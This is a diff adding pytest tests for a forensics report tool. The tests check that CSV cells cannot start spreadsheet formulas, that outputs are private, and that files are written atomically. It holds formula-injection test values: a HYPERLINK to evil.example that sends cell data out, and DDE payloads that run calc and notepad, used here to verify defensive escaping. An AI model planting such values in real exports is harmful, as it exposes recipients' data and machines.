@@ -1,0 +1,216 @@
+"""Outputs hold customer data: no spreadsheet formula runs from them, nobody else can read them,
+and a file is whole or absent (never cut), whatever stops the run."""
+
+from __future__ import annotations
+
+import csv
+import errno
+import os
+import stat
+from contextlib import contextmanager
+from pathlib import Path
+
+import pytest
+from fixtures.findings.builder import AFFECTED, EXPOSURES, OUTPUT_FILES, REQUESTS, build
+from typer.testing import CliRunner
+
+from forensics.cli import app
+from forensics.errors import ForensicsError
+from forensics.report import write_report
+from forensics.report.outputs import csv_cell
+
+# What a spreadsheet would run: a hyperlink that sends data out, DDE, and the other starts.
+HOSTILE_TENANTS = {
+    "acct_alpha": '=HYPERLINK("http://evil.example/?"&A1,"open")',
+    "acct_beta": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "acct_gamma": "-2+3+cmd|' /C calc'!A0",
+    "acct_delta": "\t=1+1",
+}
+HOSTILE_REQUEST = ("r-a1", "+cmd|' /C notepad'!A0")
+
+
+def _hostile(value: str) -> str:
+    value = HOSTILE_TENANTS.get(value, value)
+    return HOSTILE_REQUEST[1] if value == HOSTILE_REQUEST[0] else value
+
+
+@contextmanager
+def umask(mask: int):
+    old = os.umask(mask)
+    try:
+        yield
+    finally:
+        os.umask(old)
+
+
+def mode(path: Path) -> int:
+    return stat.S_IMODE(path.stat().st_mode)
+
+
+# --- spreadsheet formulas ------------------------------------------------------------------------
+
+
+def test_no_csv_cell_starts_a_formula(tmp_path):
+    requests = [(_hostile(r[0]), _hostile(r[1]), *r[2:]) for r in REQUESTS]
+    affected = [(_hostile(a[0]), *a[1:]) for a in AFFECTED]
+    exposures = [(_hostile(e[0]), _hostile(e[1]), *e[2:]) for e in EXPOSURES]
+    case, con = build(tmp_path / "case", requests=requests, affected=affected, exposures=exposures)
+    # A negative number stays a number.
+    con.execute("UPDATE findings_exploitation SET score = -0.5 WHERE tenant_id = 'acct_researcher'")
+    out = tmp_path / "out"
+    result = write_report(con, case, out)
+    files = [out / n for n in OUTPUT_FILES if n.endswith(".csv")]
+    files += [p for p in result.notices if p.suffix == ".csv"]
+    assert {p.name for p in files} >= {"affected_responses.csv", "exposures.csv", "review.csv"}
+    cells: dict[str, list[str]] = {}
+    for path in files:
+        with path.open(newline="", encoding="utf-8") as fh:
+            for row in csv.reader(fh):
+                for cell in row:
+                    cells.setdefault(cell, []).append(path.name)
+    risky = [
+        (c, names)
+        for c, names in cells.items()
+        if c[:1] in ("=", "+", "-", "@", "\t", "\r") and not _is_number(c)
+    ]
+    assert risky == []
+    alpha = "'" + HOSTILE_TENANTS["acct_alpha"]
+    assert {"affected_responses.csv", "exposures.csv", "notifications.csv"} <= set(cells[alpha])
+    assert {"exposures.csv", "notifications.csv"} <= set(cells["'" + HOSTILE_TENANTS["acct_beta"]])
+    assert "review.csv" in cells["'" + HOSTILE_TENANTS["acct_gamma"]]
+    request = "'" + HOSTILE_REQUEST[1]
+    assert {"affected_responses.csv", "exposures.csv"} <= set(cells[request])
+    # The letter's CSV of the tenant whose request id looks like a formula.
+    notice_csvs = [n for n in cells[request] if n not in OUTPUT_FILES]
+    assert len(notice_csvs) == 1
+    assert "exploitation.csv" in cells["-0.5"]
+
+
+def _is_number(text: str) -> bool:
+    try:
+        float(text)
+    except ValueError:
+        return False
+    return True
+
+
+@pytest.mark.parametrize(
+    "value, cell",
+    [
+        ("=1+1", "'=1+1"),
+        ("+1+1", "'+1+1"),
+        ("-1+1", "'-1+1"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\t=1", "'\t=1"),
+        ("\r=1", "'\r=1"),
+        ("acct=1", "acct=1"),
+        ("-5", "-5"),
+        ("+5.5", "+5.5"),
+        ("-1e3", "-1e3"),
+        (-5, -5),
+        (-0.25, -0.25),
+        (None, ""),
+    ],
+)
+def test_csv_cells(value, cell):
+    assert csv_cell(value) == cell
+
+
+# --- permissions ------------------------------------------------------------------------------
+
+
+def test_report_files_are_private_whatever_the_umask(tmp_path):
+    case, con = build(tmp_path / "case")
+    out = tmp_path / "new" / "out"
+    with umask(0o022):
+        result = write_report(con, case, out)
+    assert mode(tmp_path / "new") == mode(out) == mode(out / "notices") == 0o700
+    assert result.notices
+    assert {mode(p) for p in result.files} == {0o600}
+
+
+def test_a_stricter_umask_and_an_existing_folder_are_respected(tmp_path):
+    case, con = build(tmp_path / "case")
+    out = tmp_path / "out"
+    (out / "notices").mkdir(parents=True)
+    os.chmod(out, 0o755)
+    # What a killed run leaves behind goes; the folder, the user's, keeps its mode.
+    (out / ".report.html.abc123.partial").write_text("<html><body>half")
+    (out / "notices" / ".acct_alpha.md.xyz.partial").write_text("Dear")
+    with umask(0o277):
+        result = write_report(con, case, out)
+    assert {mode(p) for p in result.files} == {0o400}
+    assert mode(out) == 0o755
+    assert list(out.rglob("*.partial")) == []
+
+
+def test_the_command_line_writes_everything_private(tiny_reference):
+    # The shared run of the tiny case ran under umask 022 (see conftest).
+    folder = tiny_reference.parent
+    assert mode(folder / "case.duckdb") == 0o600
+    assert mode(folder / "report") == mode(folder / "report" / "notices") == 0o700
+    files = [p for p in (folder / "report").rglob("*") if p.is_file()]
+    assert len(files) > 10 and {mode(p) for p in files} == {0o600}
+
+
+# --- complete or absent ---------------------------------------------------------------------------
+
+
+def test_a_full_disk_is_one_line_and_leaves_no_cut_file(tmp_path, monkeypatch):
+    case, con = build(tmp_path / "case")
+    con.close()
+    out = tmp_path / "case" / "report"
+    first = CliRunner().invoke(app, ["report", str(case.path)])
+    assert first.exit_code == 0, first.output
+    before = {p.name: p.read_bytes() for p in out.iterdir() if p.is_file()}
+
+    import forensics.files
+
+    real_fsync, calls = os.fsync, []
+
+    def full_disk(fd):
+        calls.append(fd)
+        if len(calls) == 2:  # the second file: report.md
+            raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))
+        real_fsync(fd)
+
+    monkeypatch.setattr(forensics.files.os, "fsync", full_disk)
+    again = CliRunner().invoke(app, ["report", str(case.path), "--as-of", "2026-09-05T00:00:00Z"])
+    assert again.exit_code == 1
+    assert again.output == (
+        f"Error: {out / 'report.md'}: cannot write the file (No space left on device)\n"
+    )
+    # report.html was rewritten whole; report.md is the earlier one, whole; the manifest is gone,
+    # so the folder does not pass for a complete report; nothing temporary is left.
+    assert "2026-09-05" in (out / "report.html").read_text()
+    assert (out / "report.md").read_bytes() == before["report.md"]
+    assert not (out / "manifest.json").exists()
+    assert sorted(p.name for p in out.iterdir() if p.name.startswith(".")) == []
+
+
+def test_an_output_folder_that_cannot_be_made_is_one_line(tmp_path):
+    case, con = build(tmp_path / "case")
+    con.close()
+    (tmp_path / "taken").write_text("a file, not a folder")
+    result = CliRunner().invoke(app, ["report", str(case.path), "--out", str(tmp_path / "taken/r")])
+    assert result.exit_code == 1
+    assert result.output == (
+        f"Error: {tmp_path / 'taken'}: cannot create the folder (a file has its name)\n"
+    )
+
+
+def test_write_atomic_keeps_the_old_file_when_writing_fails(tmp_path, monkeypatch):
+    from forensics import files
+
+    target = tmp_path / "x.csv"
+    target.write_text("old\n")
+
+    def broken(fd):
+        raise OSError(errno.EIO, os.strerror(errno.EIO))
+
+    monkeypatch.setattr(files.os, "fsync", broken)
+    with pytest.raises(ForensicsError) as err:
+        files.write_atomic(target, b"new\n")
+    assert str(err.value) == f"{target}: cannot write the file (Input/output error)"
+    assert target.read_text() == "old\n"
+    assert [p.name for p in tmp_path.iterdir()] == ["x.csv"]
